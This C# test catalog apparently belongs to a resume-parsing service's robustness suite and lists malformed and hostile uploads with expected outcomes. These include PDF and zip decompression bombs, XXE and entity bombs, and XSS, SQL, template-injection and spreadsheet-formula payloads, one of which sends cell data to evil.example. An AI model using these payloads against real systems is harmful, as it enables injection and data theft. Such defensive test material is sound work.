using System.Text;
using Pipeline.Testing;
using Resume.Fixtures;
using static Pipeline.Reliability.Tests.Hostile.HostileAnswer;

namespace Pipeline.Reliability.Tests.Hostile;

/// <summary>
/// Every kind of file the suite throws at the running services, each made here from the fixture builders (nothing of it
/// checked in), with the answer it must get. Request-level abuse (no file, two files, names, content types, 30 and
/// 100 MB uploads, bodies cut off, long fields) is <see cref="Door.RequestAbuseTests"/>'s.
/// </summary>
public static class HostileCatalog
{
    private const string Parse = "parse";

    public const string ScriptPayload = "<script>alert('owned')</script><img src=x onerror=alert(1)>";
    public const string FormulaPayload = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    public const string TemplatePayload = "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}";
    /// <summary>A file name a spreadsheet would run (no slash: a name keeps only its last segment).</summary>
    public const string FormulaFileName = "=SUM(1+1)*cmd|' -C calc'!A0.txt";
    public const string SqlPayload = "Robert'); DROP TABLE \"Scans\";--";

    private static readonly Lazy<byte[]> GoodPdf = new(() => PdfResume.SingleColumn(People.Backend));
    private static readonly Lazy<byte[]> GoodDocx = new(() => DocxResume.Build(People.Designer));
    private static readonly Lazy<byte[]> Photo = new(() => Pictures.Of(PdfResume.SingleColumn(People.Backend), PictureFormat.Png, dpi: 150));
    private static readonly Lazy<byte[]> JpegPhoto = new(() => Pictures.Of(PdfResume.SingleColumn(People.Backend), PictureFormat.Jpeg, dpi: 150));

    public static readonly IReadOnlyList<HostileKind> Kinds =
    [
        // PDF: broken
        new("pdf: corrupt (header, then noise)", "corrupt.pdf", ResumeFixtures.CorruptPdf, new Failed(Parse, "corrupt")),
        new("pdf: garbage after a valid header", "garbage.pdf", HostileFiles.GarbagePdf, new Failed(Parse, "corrupt")),
        new("pdf: truncated at 40 %", "truncated.pdf", () => HostileFiles.Truncated(GoodPdf.Value), new CompletedOrFailed(Parse, "corrupt", "empty")),
        new("pdf: broken cross-reference table", "xref.pdf", () => HostileVariants.BrokenXref(GoodPdf.Value), new CompletedOrFailed(Parse, "corrupt")),
        new("pdf: 0 pages", "nopages.pdf", HostileVariants.NoPages, new Failed(Parse, "empty") { Saying = "no pages" }),
        new("pdf: 2,000 pages", "pages.pdf", () => PdfResume.Pages(2000), new Failed(Parse, "too-many-pages")),
        new("pdf: 50,000 pages of a few bytes", "manypages.pdf", () => HostilePdfs.ManyPages(), new Failed(Parse, "too-many-pages", "too-complex")),
        // PDF: structure built to hurt a reader
        new("pdf: arrays nested 100,000 deep", "deep.pdf", () => HostilePdfs.DeepNesting(), new Failed(Parse, "too-complex", "corrupt")),
        new("pdf: content arrays nested 100,000 deep", "deepcontent.pdf", () => HostilePdfs.DeepContentArrays(), new Failed(Parse, "too-complex", "corrupt")),
        new("pdf: circular references", "loop.pdf", () => HostilePdfs.LoopingReferences(), new Failed(Parse, "corrupt")),
        new("pdf: circular MediaBox reference", "loopbox.pdf", () => HostilePdfs.LoopingReferences(inMediaBox: true), new Failed(Parse, "corrupt")),
        new("pdf: page tree naming its parent", "treeloop.pdf", HostilePdfs.PageTreeLoop, new Failed(Parse, "corrupt")),
        new("pdf: form XObject drawing itself", "selfform.pdf", HostilePdfs.SelfDrawingForm, new CompletedOrFailed(Parse, "corrupt", "too-complex", "not-a-resume", "empty")),
        new("pdf: flate bomb, 32 MiB of spaces", "flate.pdf", () => HostileFiles.PdfBomb(), new CompletedOrFailed(Parse, "too-complex", "empty", "not-a-resume")),
        new("pdf: double flate bomb to 1 GiB", "flate2.pdf", () => HostilePdfs.DoubleFlateBomb(), new Failed(Parse, "too-complex") { Saying = "expands to far more data" }),
        new("pdf: flate bomb, filter 2 KB before the stream", "flatefar.pdf", () => HostilePdfs.FarFilterFlateBomb(), new Failed(Parse, "too-complex") { Saying = "expands to far more data" }),
        new("pdf: flate bomb, filter named indirectly", "flateind.pdf", () => HostilePdfs.IndirectFilterFlateBomb(), new Failed(Parse, "too-complex") { Saying = "expands to far more data" }),
        new("pdf: hex + escaped flate bomb", "flatehex.pdf", () => HostilePdfs.EscapedChainFlateBomb(), new Failed(Parse, "too-complex") { Saying = "expands to far more data" }),
        new("pdf: run-length bomb", "runlength.pdf", () => HostilePdfs.RunLengthBomb(), new Failed(Parse, "too-complex") { Saying = "expands to far more data" }),
        new("pdf: 200,000 × 200,000 image", "hugeimage.pdf", () => HostilePdfs.HugeImage(), new Failed(Parse, "too-complex")),
        new("pdf: page 200 inches square, user unit 75,000", "hugepage.pdf", HostileVariants.HugePage, new CompletedOrFailed(Parse, "too-complex")),
        // PDF: active content, passwords, fonts
        new("pdf: JavaScript on open", "js.pdf", HostileVariants.WithJavaScript, new Completed("Jordan Avery")),
        new("pdf: embedded executable file", "embedded.pdf", HostileVariants.WithEmbeddedFile, new Completed("Jordan Avery")),
        new("pdf: user password", "locked.pdf", ResumeFixtures.EncryptedPdf, new Failed(Parse, "encrypted")),
        new("pdf: owner password only", "owner.pdf", () => HostileVariants.OwnerPasswordOnly(GoodPdf.Value), new Completed(People.Backend.Name)),
        new("pdf: font without ToUnicode, private encoding", "notounicode.pdf", HostileVariants.FontWithoutToUnicode, new CompletedOrFailed(Parse, "not-a-resume", "empty")),
        new("pdf: scanned page only (OCR)", "scan.pdf", () => Pictures.ScannedPdf(GoodPdf.Value, dpi: 150), new Completed()),
        // Word
        new("docx: macros (vbaProject.bin)", "macro.docm", () => HostileVariants.WithMacros(GoodDocx.Value), new Completed(People.Designer.Name)),
        new("docx: external relationships (metadata URL, file path, UNC)", "external.docx", () => HostileVariants.ExternalRelationships(GoodDocx.Value), new Completed(People.Designer.Name)),
        new("docx: entity bomb (billion laughs)", "laughs.docx", HostileVariants.EntityBomb, new Failed(Parse, "too-complex") { Saying = "declares its own entities" }),
        new("docx: XXE reading /etc/passwd", "xxe.docx", HostileVariants.ExternalEntity, new Failed(Parse, "too-complex") { Saying = "declares its own entities" }),
        new("docx: zip bomb (96 MiB part)", "zipbomb.docx", () => HostileFiles.ZipBomb(), new Failed(Parse, "too-complex") { Saying = "expands to far more data" }),
        new("docx: part lying about its size (512 MiB)", "lying.docx", () => HostileDocx.LyingSizes(), new Failed(Parse, "too-complex", "corrupt", "too-large")),
        new("docx: 10,000 extra entries", "entries.docx", () => HostileVariants.ManyEntries(GoodDocx.Value), new Failed(Parse, "too-complex") { Saying = "far more than any Word document" }),
        new("docx: traversal entry names", "traversal.docx", () => HostileVariants.TraversalNames(GoodDocx.Value), new CompletedOrFailed(Parse, "corrupt")),
        new("docx: main part missing", "nomain.docx", () => HostileVariants.MissingMainPart(GoodDocx.Value), new Failed(Parse, "unsupported-type") { Saying = "not a Word document" }),
        new("docx: central directory broken", "nocd.docx", () => HostileVariants.BrokenCentralDirectory(GoodDocx.Value), new Failed(Parse, "corrupt")),
        new("docx: truncated at 40 %", "truncated.docx", () => HostileFiles.Truncated(GoodDocx.Value), new Failed(Parse, "corrupt")),
        new("docx: tables nested 10,000 deep", "tables.docx", () => HostileDocx.NestedTables(), new Failed(Parse, "too-complex")),
        new("docx: elements nested 100,000 deep", "elements.docx", () => HostileDocx.DeepElements(), new Failed(Parse, "too-complex")),
        new("docx: malformed link target", "badlink.docx", () => HostileDocx.MalformedLinkTarget(People.Backend), new Completed(People.Backend.Name)),
        new("doc: old binary Word (OLE)", "old.doc", () => ResumeFixtures.OfficeContainer(encrypted: false), new Failed(Parse, "unsupported-type")),
        new("docx: encrypted OOXML (OLE package)", "locked.docx", () => ResumeFixtures.OfficeContainer(encrypted: true), new Failed(Parse, "encrypted")),
        // Text in every encoding
        new("txt: UTF-16 LE with BOM", "utf16.txt", () => [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(TextResume.Plain(People.Backend))], new Completed(People.Backend.Name)),
        new("txt: UTF-16 BE with BOM", "utf16be.txt", () => [.. Encoding.BigEndianUnicode.GetPreamble(), .. Encoding.BigEndianUnicode.GetBytes(TextResume.Plain(People.Backend))], new Completed(People.Backend.Name)),
        new("txt: Windows-1252 / Latin-1", "latin1.txt", HostileText.Windows1252Resume, new Completed("Müller")),
        new("txt: NUL bytes inside", "nul.txt", () => Encoding.UTF8.GetBytes(TextResume.Plain(People.Backend).Replace("\n", "\0\n", StringComparison.Ordinal)), new Refused(415, "file")),
        new("txt: one 1 MB line", "longline.txt", () => Encoding.UTF8.GetBytes(TextResume.Plain(People.Backend) + "\n" + string.Concat(Enumerable.Repeat("lorem ipsum ", 1024 * 1024 / 12))), new CompletedOrFailed(Parse, "too-complex", "not-a-resume")),
        new("txt: right-to-left and control characters", "rtl.txt", () => Payload(name: "\u202Eمحمد عبد الله\u202C\u0007\u001b[31m Cohen כהן"), new Completed { Name = "محمد عبد الله Cohen כהן" }),
        new("md: HTML and script in Markdown", "resume.md", () => Encoding.UTF8.GetBytes("# " + People.Backend.Name + "\n\n" + ScriptPayload + "\n\n<iframe src=\"javascript:alert(2)\"></iframe>\n\n[portfolio](javascript:alert(3))\n\n" + TextResume.Plain(People.Backend)), new Completed(People.Backend.Name)),
        new("md: a megabyte of tags, comments, links and emphasis never closed", "unclosed.md", () => Encoding.UTF8.GetBytes(TextResume.Markdown(People.Backend) + "\n\n" + string.Concat(Enumerable.Repeat("<h1><a href=\"x <script <!-- {% [a]( **a [", 1024 * 1024 / 44))), new Completed(People.Backend.Name)),
        // Payload resumes
        new("txt: resume carrying script", "script.txt", () => Payload(summary: ScriptPayload), new Completed("<script>alert('owned')</script>")),
        new("pdf: resume carrying script", "script.pdf", () => HostileVariants.PdfOfLines(["Jordan Avery", ScriptPayload, "Backend Developer", "jordan.avery@example.com", "Experience", "Senior Developer, Northwind, 2019 - 2024", "Skills", "C#, PostgreSQL"]), new Completed()),
        new("txt: CSV-formula name and file name", FormulaFileName, () => Payload(name: FormulaPayload), new Completed()),
        new("txt: template payloads", "template.txt", () => Payload(summary: TemplatePayload), new Completed("{{7*7}}")),
        new("txt: SQL payload name", "sql.txt", () => Payload(name: SqlPayload), new Completed()),
        new("txt: 10,000-character name", "longname.txt", () => Payload(name: "Jordan " + new string('x', 10_000)), new CompletedOrFailed(Parse, "not-a-resume")),
        new("txt: emoji, joiners, combining marks", "emoji.txt", () => Payload(name: "Zoë 👩🏽‍💻 Nguye\u0302\u0303n\u200CÅberg\u200D"), new Completed()),
        // Pictures
        new("png: decompression bomb 20,000²", "bomb.png", () => Pictures.PngBomb(), new Failed(Parse, "too-complex")),
        new("jpeg: headers declaring 65,500²", "bomb.jpg", HostileVariants.JpegBomb, new Failed(Parse, "too-complex", "corrupt")),
        new("png: truncated photo", "cut.png", () => Pictures.Truncated(Photo.Value), new CompletedOrFailed(Parse, "corrupt", "not-a-resume", "empty")),
        new("jpeg: truncated photo", "cut.jpg", () => Pictures.Truncated(JpegPhoto.Value), new CompletedOrFailed(Parse, "corrupt", "not-a-resume", "empty")),
        new("gif: a picture of a kind not read", "photo.pdf", ResumeFixtures.Gif, new Refused(415, "type")),
        // Not a resume at all
        new("exe: Windows program named .pdf", "resume.pdf", HostileFiles.WindowsExecutable, new Refused(415, "type")),
        new("bin: random bytes", "resume.docx", () => HostileFiles.RandomBinary(), new Refused(415, "type")),
        new("zip: a ZIP that is not Word", "resume.zip", HostileFiles.PlainZip, new Failed(Parse, "unsupported-type") { Saying = "not a Word document" }),
        new("empty file", "empty.txt", () => [], new Refused(422, "empty")),
    ];

    /// <summary>The backend developer's resume as plain text with <paramref name="name"/> or <paramref name="summary"/> replaced.</summary>
    private static byte[] Payload(string? name = null, string? summary = null) => Encoding.UTF8.GetBytes(TextResume.Plain(People.Backend with
    {
        Name = name ?? People.Backend.Name,
        Summary = summary ?? People.Backend.Summary,
    }));

    public static HostileKind Named(string name) => Kinds.Single(k => k.Name == name);
}
